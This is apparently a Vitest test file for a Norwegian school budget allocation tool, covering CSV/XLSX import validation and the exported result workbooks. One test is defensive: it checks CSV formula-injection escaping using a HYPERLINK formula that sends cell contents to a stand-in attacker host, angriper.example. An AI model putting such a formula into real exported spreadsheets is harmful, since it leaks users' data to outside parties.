import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { csvCell, formatResultCsv, toCsv, unitsFromCsv, unitsFromXlsx, unitsTemplateXlsx, resultWorkbook } from '../src/formats/index.js';
import { computeAllocation, parseAllocationInput } from '../src/engine/index.js';
import { baseInput } from './helpers.js';

describe('units from CSV', () => {
  it('reads Norwegian headers, semicolons, decimal commas and two school years', () => {
    const csv =
      'id;navn;trinn;elever_1;elever_2;minoritetsspraklige;budsjett\neide;Eide;barnetrinn;120;126;0;5 700 000\nfjaere-u;Fjære U;ungdomstrinn;309;309;2,5;\n';
    const r = unitsFromCsv(csv);
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.units[0]).toEqual({
      id: 'eide',
      name: 'Eide',
      stage: 'barnetrinn',
      currentBudget: 5700000,
      schoolYears: [
        { pupils: 120, minorityPupils: 0 },
        { pupils: 126, minorityPupils: 0 },
      ],
    });
    expect(r.units[1]!.schoolYears![0]!.minorityPupils).toBe(2.5);
  });

  it('reports each bad cell by row and column, and returns no units', () => {
    const csv = 'id,navn,trinn,elever\na,A,barnetrinn,-3\nb,B,vgs,10\na,C,barnetrinn,tolv\n';
    const r = unitsFromCsv(csv);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.errors).toEqual([
      { row: 2, column: 'elever', message: 'Antallet kan ikke være negativt' },
      { row: 3, column: 'trinn', message: 'Trinn må være «barnetrinn» eller «ungdomstrinn», ikke «vgs»' },
      { row: 4, column: 'elever', message: '«tolv» er ikke et tall' },
      { row: 4, column: 'id', message: 'Enhets-id «a» er brukt før (rad 2)' },
    ]);
  });

  it('refuses an unknown column and a missing required one', () => {
    const r = unitsFromCsv('id,trinn,busser\na,barnetrinn,3\n');
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.errors).toContainEqual({ row: 1, column: 'busser', message: expect.stringContaining('Ukjent kolonne «busser»') });
    expect(r.errors).toContainEqual({ row: 1, column: 'navn', message: 'Kolonnen «navn» mangler' });
  });
});

describe('CSV writing (formula injection)', () => {
  it('writes text that a spreadsheet would run as a formula with a leading quote, and numbers as numbers', () => {
    const input = baseInput();
    input.units![0]!.name = '=HYPERLINK("https://angriper.example/?d="&A1;"Klikk")';
    input.units![1]!.name = '@SUM(1+1)';
    input.units![1]!.id = '-2+3';
    input.criteria![1]!.id = '+minority';
    input.adjustments = [{ unit: '-2+3', amount: -5_100_000, reason: 'Trekk' }];
    const csv = formatResultCsv(computeAllocation(input));
    const rows = csv.trimEnd().split('\n');
    expect(rows[0]).toBe('enhet_id;enhet;trinn;elever;kriterium;belop;per_elev');
    // No cell (between separators, quotes left aside) starts a formula; a negative number stays a number.
    for (const line of rows)
      for (const cell of line.split(';')) expect(cell.replace(/^"/, '')).not.toMatch(/^([=+@\t\r]|-(?!\d+(\.\d+)?$))/);
    expect(csv).toContain(`a;"'=HYPERLINK(""https://angriper.example/?d=""&A1;""Klikk"")";barnetrinn;100;perPupil;`);
    expect(csv).toContain("'-2+3;'@SUM(1+1);ungdomstrinn;200;'+minority;");
    expect(csv).toContain("'-2+3;'@SUM(1+1);ungdomstrinn;200;justeringer;-5100000;\n");
  });

  it('escapes text cells only, and quotes separators, quotes and line breaks', () => {
    expect(csvCell(-5100000)).toBe('-5100000');
    expect(csvCell('-5100000')).toBe("'-5100000");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell('Eide skole')).toBe('Eide skole');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell(null)).toBe('');
    expect(
      toCsv([
        ['x', 1],
        ['=y', null],
      ]),
    ).toBe("x;1\n'=y;\n");
  });
});

describe('units from XLSX', () => {
  it('reads the template back', async () => {
    const r = await unitsFromXlsx(await unitsTemplateXlsx());
    expect(r).toEqual({
      ok: true,
      units: [
        {
          id: 'skole-b',
          name: 'Skole B',
          school: 'Eksempel skole',
          orgNumber: '123456785',
          stage: 'barnetrinn',
          currentBudget: 16500000,
          schoolYears: [
            { pupils: 250, highNeedsPupils: 2, minorityPupils: 5, seniorReducedHours: 120 },
            { pupils: 262, highNeedsPupils: 2, minorityPupils: 5, seniorReducedHours: 120 },
          ],
        },
      ],
    });
  });

  it('reports a bad cell by row and column', async () => {
    const wb = new ExcelJS.Workbook();
    const s = wb.addWorksheet('Enheter');
    s.addRow(['id', 'navn', 'trinn', 'elever']);
    s.addRow(['a', 'A', 'barnetrinn', 10]);
    s.addRow(['b', 'B', 'barnetrinn', -1]);
    const r = await unitsFromXlsx(new Uint8Array(await wb.xlsx.writeBuffer()));
    expect(r).toEqual({ ok: false, errors: [{ row: 3, column: 'elever', message: 'Antallet kan ikke være negativt' }] });
  });

  it('refuses a file that is not a workbook', async () => {
    const r = await unitsFromXlsx(new TextEncoder().encode('not a zip'));
    expect(r.ok).toBe(false);
  });

  it('writes the result workbook with the report’s sheets, each with its totals row', async () => {
    const input = parseAllocationInput({ ...baseInput(), currentBudget: { a: 4500000, b: 11500000 } });
    const result = computeAllocation(input);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await resultWorkbook(input, result)) as unknown as ArrayBuffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Satser', 'Per enhet (Figur 4-1)', 'Mot budsjett (Tabell 4-3)', 'Kriterieandeler']);
    const perUnit = wb.getWorksheet('Per enhet (Figur 4-1)')!;
    expect(perUnit.getRow(2).getCell(1).value).toBe('A skole');
    expect(perUnit.getRow(4).getCell(1).value).toBe('Sum');
    const budget = wb.getWorksheet('Mot budsjett (Tabell 4-3)')!;
    expect(budget.getRow(4).values).toEqual([undefined, 'Sum', 15972952, 16000000, -27048, -0.17]);
  });

  it('after a frame change the workbook has Tabell 4-4, 4-5 and the per-unit effect', async () => {
    const input = parseAllocationInput({ ...baseInput(), mode: 'distribution', frameChange: -500000, currentBudget: { a: 4500000 } });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await resultWorkbook(input, computeAllocation(input))) as unknown as ArrayBuffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual([
      'Satser (Tabell 4-4)',
      'Per enhet (Figur 4-1)',
      'Mot budsjett (Tabell 4-5)',
      'Etter rammeendring',
      'Kriterieandeler',
    ]);
    expect(wb.getWorksheet('Etter rammeendring')!.getRow(4).values).toEqual([undefined, 'Sum', 15972952, 15472952, -500000, -3.13]);
  });
});
